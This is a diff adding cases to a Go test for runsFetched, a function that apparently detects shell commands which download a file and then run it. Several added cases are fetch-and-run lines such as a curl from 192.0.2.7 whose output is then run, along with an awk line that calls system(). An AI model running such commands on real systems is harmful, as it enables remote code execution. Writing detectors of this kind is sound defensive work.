@@ -27,6 +27,16 @@ func TestRunsFetched(t *testing.T) {
 		{"tar -xzf /tmp/ext.tar.gz -C /srv/kb/www/ext", false},
 		{"sh -c 'echo ok'", false},
 		{"python3 -c 'print(1)'", false},
+		// quotes hold a program's own text: no command words in it
+		{`sed -e 's/\r$//' '/tmp/phpKYkAqe' | awk -F';' 'NR > 1 && $3 ~ /^[0-9]+([.][0-9]+)?$/ { printf "%s,%s\n", $2, $3 }' | sort -t, -k1,1 > '/var/www/html/data/p.new'`, false},
+		{"awk 'BEGIN { system(\"id\") }; { print }' /tmp/in.csv", false},
+		// a shell's -c string is read as a command, groups and
+		// substitutions too
+		{"bash -c 'curl -so /tmp/x http://192.0.2.7/x; /tmp/x'", true},
+		{"sh -c \"cd /tmp && ./kit\"", true},
+		{"curl -so /tmp/x http://192.0.2.7/x && { /tmp/x; }", true},
+		{"curl -so /tmp/x http://192.0.2.7/x && (cd /tmp; ./x)", true},
+		{"echo $(/tmp/x)", true},
 	} {
 		if got := runsFetched(c.cmd); got != c.want {
 			t.Errorf("runsFetched(%q) = %v, want %v", c.cmd, got, c.want)
